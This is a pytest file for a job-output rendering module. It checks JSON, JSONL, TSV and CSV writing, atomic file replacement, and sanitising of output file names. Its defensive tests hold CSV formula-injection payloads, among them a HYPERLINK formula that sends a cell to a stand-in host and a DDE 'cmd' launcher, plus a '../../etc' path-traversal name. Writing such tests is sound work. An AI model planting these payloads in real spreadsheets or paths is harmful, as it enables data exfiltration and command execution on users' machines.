"""Documents and rows as text: the same data in every format, written as it comes."""

import csv
import io
import json

import pytest

from qjobs.errors import UsageError
from qjobs.render.files import file_name, format_of, replacing
from qjobs.render.output import Format
from qjobs.render.rows import Rows
from qjobs.render.shapes import Document
from qjobs.render.writing import write


def written(format_, inner=(), rows=(), *, header=False):
    stream = io.StringIO()
    write(
        stream, format_, Document({"schema": "x/1"}, "items", inner), Rows(("a", "b"), rows),
        header=header,
    )  # fmt: skip
    return stream.getvalue()


@pytest.mark.parametrize("items", [[], [{"a": 1}], [{"a": "]}"}, {"a": None}]])
def test_json_is_one_document_and_jsonl_its_items(items):
    assert json.loads(written(Format.JSON, items)) == {"schema": "x/1", "items": items}
    assert [json.loads(line) for line in written(Format.JSONL, items).splitlines()] == items


def test_tsv_keeps_its_columns_whatever_the_text():
    assert written(Format.TSV, rows=[("a\tb", "c\nd")], header=True) == "a\tb\na\\tb\tc\\nd\n"


def test_csv_reads_back():
    text = written(Format.CSV, rows=[('say "x", y', 1)])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ['say "x", y', "1"]]


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "-ZZ", "\uff1d1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_has_no_cell_that_a_spreadsheet_runs(text):
    rows = [(text, f"a{text}")]

    ((_, _), (first, second)) = csv.reader(io.StringIO(written(Format.CSV, rows=rows)))

    assert (first, second) == (f"'{text}", f"a{text}")
    assert written(Format.TSV, rows=rows) == f"{text}\ta{text}\n"


def test_tabs_and_returns_before_a_formula_are_written_out():
    text = written(Format.CSV, rows=[("\t=1", "\r=1")])

    assert text.splitlines()[1] == "\\t=1,\\r=1"


@pytest.mark.parametrize("number", [-1, -0.5, "-0.5", "+1e-3", "-inf"])
def test_numbers_of_csv_stay_numbers(number):
    assert written(Format.CSV, rows=[(number, -0.0)]) == f"a,b\n{number},-0.0\n"


def test_items_are_written_before_the_next_is_made():
    stream = io.StringIO()

    def items():
        for number in range(3):
            # The one before this has been written.
            assert stream.getvalue().count("number") == number
            yield {"number": number}

    write(stream, Format.JSON, Document({}, "items", items()), Rows((), ()))
    assert len(json.loads(stream.getvalue())["items"]) == 3


def test_a_file_is_replaced_only_when_it_is_whole(tmp_path):
    path = tmp_path / "counts.json"
    path.write_text("before")

    def break_off():
        with replacing(path) as stream:
            stream.write("half")
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        break_off()
    assert path.read_text() == "before"
    with replacing(path) as stream:
        stream.write("whole")
        assert path.read_text() == "before"
    assert path.read_text() == "whole"
    assert [entry.name for entry in tmp_path.iterdir()] == ["counts.json"]


def test_a_file_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match=r"file/x\.json"), replacing(tmp_path / "file" / "x.json"):
        pass


def test_the_suffix_decides_the_format(tmp_path):
    assert format_of(tmp_path / "a.JSONL") is Format.JSONL
    with pytest.raises(UsageError, match=r"a\.txt"):
        format_of(tmp_path / "a.txt")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("ghz", "00003-ghz.json"),
        ("../../etc/x", "00003-etc_x.json"),
        ("", "00003.json"),
        ("ψ/ψ", "00003.json"),
    ],
)
def test_a_circuit_cannot_choose_where_its_file_is(name, expected):
    assert file_name(3, name, ".json") == expected
